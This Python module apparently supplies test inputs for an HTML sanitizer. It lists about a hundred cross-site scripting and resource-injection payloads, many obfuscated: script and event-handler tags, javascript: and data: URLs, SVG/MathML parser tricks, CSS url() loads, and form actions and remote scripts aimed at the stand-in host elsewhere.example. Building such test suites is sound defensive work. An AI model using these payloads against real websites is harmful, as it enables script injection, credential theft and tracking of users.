"""HTML that would run a script or ask for something, in the ways it is hidden."""

import re

HOST = "https://elsewhere.example"
#: What runs or asks when a browser is given it, in the ways it is hidden.
INJECTIONS = [
    "<script>hurt()</script>", "<SCRIPT>hurt()</SCRIPT>", "<script/x>hurt()</script>", "<scr\0ipt>hurt()</scr\0ipt>",
    f"<script src={HOST}/a.js></script>", '<script type="module">hurt()</script>', "<script>hurt()//", "<<script>hurt()//<</script>",
    "<img src=x onerror=hurt()>", "<img src=x OnErRoR=hurt()>", "<img/src=x/onerror=hurt()>", "<img src=x onerror\n=\nhurt()>",
    '<img src="x` `<script>hurt()</script>"` `>', "<p onclick=hurt()>a</p>", '<b onmouseover="hurt()">a</b>', "<details open ontoggle=hurt()>a",
    "<body onload=hurt()>", "<marquee onstart=hurt()>", "<video><source onerror=hurt()></video>", "<audio src=x onerror=hurt()>",
    "<svg onload=hurt()>", "<svg><script>hurt()</script></svg>", "<svg><animate onbegin=hurt() attributeName=x dur=1s>",
    f'<svg><use xlink:href="{HOST}/a.svg#a"/></svg>', f'<svg><image href="{HOST}/a.png"/></svg>',
    '<svg><a xlink:href="javascript:hurt()"><text>a</text></a></svg>', "<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>",
    "<svg><style>*{background:url(//elsewhere.example/a)}</style></svg>", "<svg><set attributeName=href to=javascript:hurt() />",
    '<math href="javascript:hurt()">a</math>', '<math><mi xlink:href="javascript:hurt()">a</mi></math>',
    "<math><maction actiontype=statusline xlink:href=javascript:hurt()>a</maction></math>",
    "<math><annotation-xml encoding=text/html><script>hurt()</script></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hurt()&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hurt()>",
    '<a href="javascript:hurt()">a</a>', '<a href="JaVaScRiPt:hurt()">a</a>', '<a href=" \t javascript:hurt()">a</a>',
    '<a href="java\tscript:hurt()">a</a>', '<a href="java&#x0A;script:hurt()">a</a>', '<a href="&#106;avascript:hurt()">a</a>',
    '<a href="&#0000106avascript:hurt()">a</a>', '<a href="javascript&colon;hurt()">a</a>', '<a href="\x01javascript:hurt()">a</a>',
    '<a href="vbscript:hurt()">a</a>', '<a href="data:text/html,<script>hurt()</script>">a</a>', '<a href="data:text/html;base64,PHA+">a</a>',
    '<a href="//elsewhere.example">a</a>', '<a href="file:///etc/passwd">a</a>', '<a href="../../../x.html">a</a>', f'<a href="#" ping="{HOST}">a</a>',
    f'<img src="{HOST}/a.png">', f'<img srcset="{HOST}/a.png 2x">', f'<img src="data:image/png;base64,AA" srcset="{HOST}/a.png">',
    "<img src=//elsewhere.example/a.png>", '<img src="data:text/html;base64,PHA+">', '<img src="data:image/svg+xml,<svg onload=hurt()>">',
    f"<iframe src={HOST}></iframe>", '<iframe srcdoc="<script>hurt()</script>"></iframe>', "<iframe src=javascript:hurt()>",
    f'<object data="{HOST}/a.swf"></object>', '<object data="javascript:hurt()">', f'<embed src="{HOST}">', f"<applet code={HOST}>",
    f'<meta http-equiv="refresh" content="0; url={HOST}">', '<META HTTP-EQUIV="Refresh" CONTENT="0;javascript:hurt()">', f'<base href="{HOST}/">',
    f'<link rel="stylesheet" href="{HOST}/a.css">', f'<link rel="prefetch" href="{HOST}">', f'<link rel=dns-prefetch href="{HOST}">',
    f'<form action="{HOST}"><input name=a><button>go</button></form>', f'<button formaction="{HOST}">a</button>', "<input autofocus onfocus=hurt()>",
    f'<style>@import "{HOST}/a.css";</style>', f"<style>p {{ background: url({HOST}/a) }}</style>", "<STYLE>@\\69mport '//elsewhere.example'</STYLE>",
    f'<style>@font-face{{font-family:a;src:url("{HOST}/a")}}</style >', f"<style>p{{background:url({HOST}/a)}}", f'<style media=x title="</style>">*{{background:url({HOST})}}</style>',
    f'<p style="background: url({HOST}/a)">a</p>', f'<p style="background-image: image-set(\'{HOST}/a\' 1x)">a</p>', f'<p style="background: u\\72l({HOST}/a)">a</p>',
    f'<p style="background: u&#114;l({HOST}/a)">a</p>', f'<p style="list-style: URL({HOST}/a)">a</p>', f"<p style=\"--a: url({HOST}/a); content: var(--a)\">a</p>",
    '<p style="width: expression(hurt())">a</p>', '<p style="behavior: url(a.htc)">a</p>', '<p style="-moz-binding: url(a.xml#a)">a</p>',
    f'<p style="background: /*x*/url(/**/{HOST}/a)">a</p>', f'<p style="color: red; cursor: url({HOST}/a), auto">a</p>', '<p style="position: fixed; inset: 0">a</p>',
    f'<table background="{HOST}/a.png"><tr><td background="{HOST}/a.png">a</td></tr></table>', f'<td background="{HOST}/a.png">',
    f'<video poster="{HOST}/a.png" src="{HOST}/a.mp4"></video>', f'<audio src="{HOST}/a.mp3" autoplay>', f'<track src="{HOST}/a.vtt">', f'<picture><source srcset="{HOST}/a.png"></picture>',
    "<!--[if IE]><script>hurt()</script><![endif]-->", "<!--><script>hurt()</script>-->", "<!-- --!><script>hurt()</script> -->", "<![CDATA[<script>hurt()</script>]]>",
    "<?xml-stylesheet href='//elsewhere.example'?><script>hurt()</script>", "<![foo[<script>hurt()</script>", "<!DOCTYPE html [<!ENTITY a '<script>hurt()</script>'>]>",
    "<noscript><p title=\"</noscript><img src=x onerror=hurt()>\"></noscript>", "<textarea><p title=\"</textarea><script>hurt()</script>\"></textarea>", "<xmp><p title=\"</xmp><img src=x onerror=hurt()>\"></xmp>",
    "<title><p title=\"</title><script>hurt()</script>\"></title>", "<template><script>hurt()</script></template>", "<select><script>hurt()</script></select>", "<plaintext><script>hurt()",
    "<frameset onload=hurt()><frame src=x></frameset>", "<isindex action=javascript:hurt()>", "<keygen autofocus onfocus=hurt()>", "<portal src=x>", f"<fencedframe src={HOST}>",
    '<p title="\'"><script>hurt()</script>">', "<p title='\"><img src=x onerror=hurt()>", "</article></main></body><script>hurt()</script>", "<a href='x' style='x' onclick='hurt()'", "<p title=`><script>hurt()</script>`>",
    '<script type="application/json" id="explorers">{"modules": ["hurt()"], "models": {}}</script>', '<figure class="explorer" data-model="x" onclick="hurt()"></figure>',
]  # fmt: skip
#: Those that would take the rest of the page with them, or lead away from it, so that the others are not tried.
WHOLE_PAGE = re.compile(
    "plaintext|http-equiv|frameset|<!--|<style|<title|textarea|<xmp|noscript|<base|<script>hurt\\(\\)//", re.I
)
